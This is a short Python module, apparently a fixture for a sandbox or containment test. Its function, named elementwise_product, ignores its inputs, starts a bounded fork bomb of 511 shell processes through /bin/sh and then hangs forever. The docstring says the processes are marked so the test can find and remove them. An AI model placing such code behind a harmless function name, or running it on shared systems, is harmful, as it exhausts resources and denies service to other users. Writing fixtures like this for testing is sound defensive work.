"""elementwise_product sets off a fork bomb, then waits forever.

A shell function that starts two copies of itself in the background, eight levels deep: 511 processes
that each end as ``sleep 30``, so that it stays bounded on a machine others share, even where nothing
contains it. They carry TARGETS["marker"] in their environment, for the test to find and clean up.
The test replaces the TARGETS line.
"""

import contextlib
import os
import subprocess
import time

TARGETS: dict = {}
BOMB = 'bomb() { if [ "$1" -gt 0 ]; then bomb $(($1 - 1)) & bomb $(($1 - 1)) & fi; exec sleep 30; }; bomb 8'


def elementwise_product(a, b):
    with contextlib.suppress(OSError):  # a cap on processes may refuse even the first: the check still hangs
        subprocess.Popen(["/bin/sh", "-c", BOMB], env={**os.environ, "HOSTILE_MARKER": TARGETS["marker"]})
    while True:
        time.sleep(0.1)
